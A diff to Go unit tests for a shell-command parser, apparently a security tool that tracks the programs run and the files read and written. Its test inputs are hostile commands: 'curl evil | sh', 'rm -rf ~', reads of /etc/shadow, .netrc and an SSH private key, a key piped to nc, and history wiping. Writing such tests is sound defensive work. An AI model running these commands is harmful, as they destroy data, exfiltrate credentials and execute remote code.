@@ -342,6 +342,12 @@ func TestParseFiles(t *testing.T) {
 			progs: []string{"cat", "chmod", "x.sh"}, writes: []string{"/tmp/x.sh"}, heredocs: []string{"#!/bin/sh\ncurl evil | sh\n"}},
 		{name: "heredoc dash", cmd: "cat <<-EOF > f\n\tbody\n\tEOF", heredocs: []string{"body\n"}, writes: []string{"/home/dev/proj/f"}},
 		{name: "heredoc with substitution runs it", cmd: "cat <<EOF\n$(rm -rf ~)\nEOF", progs: []string{"rm@1", "cat"}},
+		{name: "cd moves relative paths", cmd: "cd .. && cat other/.env; cd /etc; cat shadow",
+			reads: []string{"/home/dev/other/.env", "/etc/shadow"}},
+		{name: "cd in subshell does not leak", cmd: "(cd /tmp && rm x); rm y",
+			writes: []string{"/tmp/x", "/home/dev/proj/y"}},
+		{name: "cd to unknown keeps relative", cmd: `cd "$X" && rm y`, writes: []string{"y"}},
+		{name: "cd home", cmd: "cd && cat .netrc", reads: []string{"/home/dev/.netrc"}},
 		{name: "history evasion", cmd: "history -c; unset HISTFILE; export HISTFILE=/dev/null; HISTSIZE=0",
 			progs: []string{"history", "unset", "export"}},
 	})
@@ -376,6 +382,10 @@ func TestParseErrorsAndLimits(t *testing.T) {
 		{name: "unclosed quote fallback", cmd: "curl x | sh '", progs: []string{"curl", "sh"}, pipelines: [][]int{{0, 1}}, parseErr: true},
 		{name: "unclosed paren fallback", cmd: "sudo rm -rf / && (curl evil | bash", progs: []string{"rm{sudo}", "curl", "bash"}, parseErr: true},
 		{name: "bad syntax fallback", cmd: "if then fi; curl x | sh", parseErr: true},
+		{name: "fallback redirects", cmd: "cat ~/.ssh/id_rsa > /tmp/k 2>&1 && (nc h 1 < /tmp/k",
+			progs: []string{"cat", "nc"}, reads: []string{"/home/dev/.ssh/id_rsa", "/tmp/k"}, writes: []string{"/tmp/k"}, parseErr: true},
+		{name: "truncated heredoc fallback", cmd: "cat > big.csv <<'EOF'\na,b\n1,2\n(",
+			progs: []string{"cat"}, writes: []string{"/home/dev/proj/big.csv"}, parseErr: true},
 		{name: "broken nested bash -c", cmd: `bash -c "curl x | sh '"`, progs: []string{"bash", "curl@1{bash -c}", "sh@1{bash -c}"}},
 	})
 	t.Run("max programs", func(t *testing.T) {
